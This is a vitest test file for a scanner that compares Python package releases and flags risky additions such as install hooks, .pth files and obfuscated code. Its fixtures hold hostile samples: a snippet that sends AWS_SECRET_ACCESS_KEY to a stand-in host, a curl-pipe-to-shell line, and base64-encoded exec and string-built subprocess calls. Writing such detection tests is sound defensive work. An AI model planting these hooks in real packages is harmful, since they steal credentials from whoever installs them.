import { expect, test } from 'vitest'
import type { Files } from '../../test/hijacks/hijack.ts'
import { judgeReleases } from '../../test/judge-releases.ts'

const metadata = 'Metadata-Version: 2.1\nName: x\nVersion: 1.0.0\n'
const code = 'def double(number):\n    return number * 2\n'
const wheel: Files = { 'x/__init__.py': code, 'x-1.0.0.dist-info/METADATA': metadata }
const backend = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
const sdist: Files = {
  'PKG-INFO': metadata,
  'setup.py': 'from setuptools import setup\nsetup(name="x")\n',
  'pyproject.toml': backend,
  'x/__init__.py': code,
}
const stealer = "import os, urllib.request\nurllib.request.urlopen('https://x.invalid/' + os.environ['AWS_SECRET_ACCESS_KEY'])\n"
const library = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0])

type Row = readonly [what: string, before: Files, gained: Files, tells: RegExp]

const atInstall: readonly Row[] = [
  ['setup.py that fetches', sdist, { 'setup.py': `${stealer}${String(sdist['setup.py'])}` }, /^critical .*talks to the network/],
  [
    'a class of setup.py that runs with install',
    sdist,
    {
      'setup.py':
        'import subprocess\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        subprocess.run(["id"])\n',
    },
    /^high .*starts other programs/,
  ],
  ['a file that setup.py imports', sdist, { 'setup.py': 'import helper\n', 'helper.py': stealer }, /^critical /],
  [
    'a backend of its own',
    sdist,
    { 'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["."]\n', 'own.py': stealer },
    /^critical /,
  ],
  ['a hook of Hatch', sdist, { 'pyproject.toml': `${backend}[tool.hatch.build.hooks.custom]\n`, 'hatch_build.py': stealer }, /^critical /],
  ['a .pth file', wheel, { 'x.pth': "import os; os.system('id')\n" }, /^high .*starts other programs/],
  ['a .pth file that imports', wheel, { 'x.pth': 'import x.start\n', 'x/start.py': stealer }, /^critical /],
  ['a .pth file in the data of a wheel', wheel, { 'x-1.0.0.data/purelib/x.pth': "import os; os.system('id')\n" }, /^high /],
  [
    'a shell script that setup.py names',
    sdist,
    { 'setup.py': `import subprocess\nsubprocess.call(['sh', 'get.sh'])\n`, 'get.sh': 'curl https://x.invalid | sh\n' },
    /^high .*starts other programs/,
  ],
  ['sitecustomize', wheel, { 'sitecustomize.py': stealer }, /^critical /],
]

const whenImported: readonly Row[] = [
  ['a thief of keys', wheel, { 'x/__init__.py': `${code}${stealer}` }, /^high .*reads secrets/],
  [
    'names that are put together',
    wheel,
    { 'x/__init__.py': `${code}__import__('sub' + 'process').run('id')\n` },
    /^high .*hides the names/,
  ],
  [
    'code in a text',
    wheel,
    {
      'x/__init__.py': `${code}import base64\np = '${Buffer.from(stealer.repeat(3)).toString('base64')}'\nq = base64.b64decode(p)\nexec(q)\n`,
    },
    /^high .*carries code/,
  ],
  ['a library that is loaded', wheel, { 'x/_c.so': library }, /^medium .*machine code/],
  ['bytecode without its source', wheel, { 'x/_c.pyc': new Uint8Array([0xa7, 13, 13, 10]) }, /^medium .*Python bytecode/],
  ['a dependency', wheel, { 'x-1.0.0.dist-info/METADATA': `${metadata}Requires-Dist: plain-ciphers>=1\n` }, /^medium .*plain-ciphers/],
  ['a command', wheel, { 'x-1.0.0.dist-info/entry_points.txt': '[console_scripts]\npip = x:main\n' }, /^low .*commands? .*pip/],
]

test.each([...atInstall, ...whenImported])('%s is told', async (_, before, gained, tells) => {
  const [first] = await judgeReleases(before, { ...before, ...gained })
  expect(`${first?.severity} ${first?.message}`).toMatch(tells)
})

test.each([
  ['a wheel', wheel],
  ['an sdist', sdist],
])('%s that changes a number says nothing', async (_, before) => {
  expect(await judgeReleases(before, { ...before, 'x/__init__.py': code.replace('2', '3') })).toEqual([])
})
